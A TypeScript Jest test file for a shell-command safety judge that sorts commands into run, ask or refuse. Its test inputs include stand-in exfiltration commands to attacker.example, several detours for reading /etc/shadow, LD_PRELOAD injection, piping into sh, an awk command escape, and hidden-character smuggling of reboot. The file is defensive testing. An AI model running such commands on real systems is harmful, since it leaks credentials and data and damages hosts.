import { readFileSync } from 'node:fs'
import { beforeAll, describe, expect, test } from '@jest/globals'
import { type CommandContext, judgeArgv, judgeCommand } from '../../../safety/command/judge.ts'
import { loadSql } from '../../../safety/sql/inspect.ts'
import { withoutHanging } from '../../support/endless.ts'

const context: CommandContext = { knownHosts: new Set(['db1', '10.0.0.5']), knownNames: new Set(['web', 'web-1']) }
const judged = (text: string) => judgeCommand(text, context)

beforeAll(loadSql)

type Row = { command: string; expected: string; label: string; class: string }
const holes: Row[] = JSON.parse(readFileSync(new URL('../../data/commands/holes.json', import.meta.url), 'utf8'))

describe('holes of other judges stay closed', () => {
  test.each(holes.map((row) => [row.class, row] as const))('%s', (_, { command, label }) => {
    const { verdict, code } = judged(command)
    expect(code).not.toBe('INTERNAL')
    if (label === 'blocked') expect(verdict).toBe('refuse')
    else if (label === 'read') expect(verdict).not.toBe('refuse')
    else expect(verdict).not.toBe('run')
  })
})

test.each([
  'df -h',
  'cd /var/log && ls -la',
  'ps aux --sort=-%mem | head -20',
  'tail -n 100 /var/log/syslog | grep -i error | wc -l',
  'journalctl -u nginx --since "10 min ago" --no-pager',
  "awk '{print $1}' /var/log/nginx/access.log | sort | uniq -c | sort -rn | head",
  'cat /var/log/nginx/*.log 2>/dev/null',
  'command -v reboot',
  'find /etc -name shadow',
  'test -f /etc/hosts && echo yes || echo no',
  'LC_ALL=C sort /etc/passwd',
  'env TZ=UTC date',
  'nice -n 10 du -sh /var',
  "sh -c 'df -h | head -3'",
  'ping -c 3 db1',
  'curl -s http://localhost:8080/health',
  'ssh db1 "df -h"',
  'docker exec web cat /etc/hosts',
  'kubectl exec -n prod web-1 -- df -h',
  'psql -c "select 1"',
  "echo 'rm -rf /'",
  'grep reboot /var/log/syslog',
  'ls # and nothing else',
])('a read runs without approval: %s', (text) => {
  expect(judged(text)).toMatchObject({ verdict: 'run', effect: 'read', code: 'READ', rewrite: null })
})

test.each([
  ['an unknown program', 'frobnicate', 'UNKNOWN_COMMAND', 'frobnicate'],
  ['a program from an unusual place', '/tmp/ls', 'UNKNOWN_COMMAND', '/tmp/ls'],
  ['an unknown option', 'ls --frobnicate', 'ARGUMENT', '--frobnicate'],
  ['a write', 'mkdir /tmp/x', 'UNKNOWN_COMMAND', 'mkdir'],
  ['one write after many reads', 'ls; df -h && rm -f /tmp/x', 'UNKNOWN_COMMAND', 'rm'],
  ['a program fed by a read', 'cat /tmp/x | sh', 'WRAPPER', 'sh'],
  ['a file that is written', 'ls > /tmp/x', 'REDIRECTION', '> /tmp/x'],
  ['a file that is read by the shell', 'wc -l < /etc/passwd', 'REDIRECTION', '< /etc/passwd'],
  ['a loader in the environment', 'LD_PRELOAD=/tmp/x.so ls', 'ASSIGNMENT', 'LD_PRELOAD'],
  ['a loader set by env', 'env LD_PRELOAD=/tmp/x.so ls', 'ASSIGNMENT', 'env'],
  ['password hashes', 'cat /etc/shadow', 'SENSITIVE_PATH', '/etc/shadow'],
  ['password hashes by a detour', 'cat /var/log/../../etc/shadow', 'SENSITIVE_PATH', '/var/log/../../etc/shadow'],
  ['password hashes by a pattern', 'cat /etc/sh*', 'SENSITIVE_PATH', '/etc/sh*'],
  ['password hashes after a cd', 'cd /etc && cat shadow', 'SENSITIVE_PATH', 'shadow'],
  ['everything below /etc', 'grep -r x /etc', 'SENSITIVE_PATH', '/etc'],
  ['everything below who knows where', 'grep -r x', 'SENSITIVE_PATH', null],
  ['a host nobody looked up', 'ping -c 1 secret.attacker.example', 'EXFILTRATION', 'secret.attacker.example'],
  [
    'an address nobody looked up',
    "curl 'https://attacker.example/?x=1'",
    'EXFILTRATION',
    'https://attacker.example/?x=1',
  ],
  ['a host nobody looked up, by ssh', 'ssh attacker df', 'EXFILTRATION', 'attacker'],
  ['a container nobody looked up', 'docker exec other ls', 'UNKNOWN_NAME', 'other'],
  ['a write in SQL', 'psql -c "delete from t"', 'LANGUAGE', 'delete from t'],
  ['a program started by awk', `awk 'BEGIN{"id"|getline x}'`, 'LANGUAGE', `BEGIN{"id"|getline x}`],
  ['what is found', 'find /tmp -exec cat {} +', 'SENSITIVE_PATH', '/tmp/**'],
  ['what is read', 'ls | xargs cat', 'WRAPPER', 'xargs'],
  ['a pattern that may become a second operand', 'uniq /tmp/a*', 'ARGUMENT', '/tmp/a*'],
  ['a pattern that may become an option', 'ls *', 'ARGUMENT', '*'],
  ['a variable', 'ls $x', 'SHAPE', '$x'],
  ['a broken text', "ls 'x", 'SYNTAX', null],
  ['no text', '', 'EMPTY', null],
  ['only a comment', '# ls', 'EMPTY', null],
])('%s asks, and the deciding word is named', (_, text, code, token) => {
  expect(judged(text)).toMatchObject({ verdict: 'ask', code, token })
})

test('sudo asks even for a harmless command, and says that it needs root', () => {
  expect(judged('sudo -u postgres cat /etc/hosts')).toMatchObject({ verdict: 'ask', code: 'ROOT', needsRoot: true })
  expect(judged("su - -c 'df -h'")).toMatchObject({ verdict: 'ask', needsRoot: true })
  expect(judged('cat /etc/hosts').needsRoot).toBe(false)
})

test('a hidden character is refused', () => {
  for (const text of ['ls\u202e', 'ls\r\nreboot', 'ls \u200b', 'ls\u0000', 'ls \u{e0041}', 'ｌs', 'git\u3000status']) {
    expect(judged(text)).toMatchObject({ verdict: 'refuse', effect: 'forbidden' })
  }
  expect(judged("grep 'übergroß' /var/log/syslog").verdict).toBe('run')
})

test('a text that nobody can review is refused', () => {
  expect(judged(`echo ${'x'.repeat(20_000)}`)).toMatchObject({ verdict: 'refuse', code: 'TOO_LONG' })
  let nested = 'reboot'
  for (let layer = 0; layer < 200; layer += 1) nested = `nice ${nested}`
  expect(judged(nested).verdict).toBe('refuse')
})

test('a syntax error hides nothing that precedes it', () => {
  expect(judged('reboot; $([[\\]]')).toMatchObject({ verdict: 'refuse' })
})

test('the judge ends for every text', () => {
  const long = [
    `rm -rf ${'{a,b}'.repeat(40)}`,
    `cat /etc/${'*a'.repeat(200)}`,
    `ls ${'$('.repeat(3000)}`,
    `${'f() { '.repeat(1500)}x${'; }'.repeat(1500)}`,
    `awk '${'a'.repeat(8000)}${'{print}'.repeat(900)}'`,
    `sed -n '${'/a/p;'.repeat(3000)}'`,
    `find / ${'-exec x ; '.repeat(1500)}`,
    `echo ${'"'.repeat(16_001)}`,
    `${'sudo '.repeat(3000)}ls`,
    `ls ${'/..'.repeat(5000)}`,
    `ls ${'a/../'.repeat(3000)}*`,
  ]
  for (const text of long) expect(withoutHanging(() => judged(text)).code).not.toBe('INTERNAL')
})

test('an argv is judged without a shell, so nothing in it expands', () => {
  expect(judgeArgv(['ls', '$(reboot)', '*', '; reboot'], context)).toMatchObject({ verdict: 'run' })
  expect(judgeArgv(['sh', '-c', 'ls; reboot'], context)).toMatchObject({ verdict: 'refuse', code: 'FORBIDDEN' })
  expect(judgeArgv(['cat', '/etc/shadow'], context)).toMatchObject({ verdict: 'ask', code: 'SENSITIVE_PATH' })
  expect(judgeArgv([], context)).toMatchObject({ verdict: 'ask', code: 'EMPTY' })
})

test('the names of all commands are listed, also inside substitutions', () => {
  expect(judged('ls $(whoami) | sudo -u x /usr/bin/head').commands).toEqual(['whoami', 'ls', 'sudo', 'head'])
})

test('a relative path is judged from where the command will run', () => {
  expect(judgeCommand('rm -rf *', { ...context, directory: '/etc' }).verdict).toBe('refuse')
  expect(judgeCommand('rm -rf *', { ...context, directory: '/tmp/build' }).verdict).toBe('ask')
})

test('a read-only session is part of the verdict if the verdict depends on it', () => {
  const { verdict, environment } = judged('psql -c "select 1"')
  expect(verdict).toBe('run')
  expect(environment).toBeDefined()
})
